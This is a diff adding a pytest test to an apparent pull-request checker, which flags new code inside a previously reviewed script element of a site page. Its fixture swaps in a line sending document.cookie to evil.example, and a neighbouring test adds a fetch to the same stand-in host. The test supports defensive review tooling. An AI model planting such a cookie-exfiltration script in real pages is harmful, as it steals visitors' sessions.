@@ -228,6 +228,19 @@ def test_script_variants_in_a_page_need_review(repo: GitRepo, added: str) -> Non
     assert code == 0 and [(f, s) for f, s, _ in issues] == [("site/guides/manager.md", "review")]
 
 
+def test_new_code_inside_a_script_element_the_page_had_needs_review(repo: GitRepo) -> None:
+    repo.git("checkout", "-q", "main")
+    append(repo, "site/policy.md", "\n<script>\nconsole.log('reviewed');\n</script>\n")
+    repo.commit("Reviewed by the administrator")
+    repo.git("checkout", "-q", "-B", "pr")
+    repo.write("site/policy.md", repo.read("site/policy.md").replace(
+        "console.log('reviewed');", "fetch('https://evil.example/?' + document.cookie);"))
+    repo.commit("Same script")
+    code, issues = found(repo)
+    assert code == 0 and [(f, s) for f, s, _ in issues] == [("site/policy.md", "review")]
+    assert "`<script> fetch('https://evil.example/?' + document.cookie...`" in issues[0][2]
+
+
 def test_a_script_file_beside_the_pages_needs_review(repo: GitRepo) -> None:
     append(repo, "site/assets/new-record.js", "\nfetch('https://evil.example');\n")
     repo.commit("Faster form")
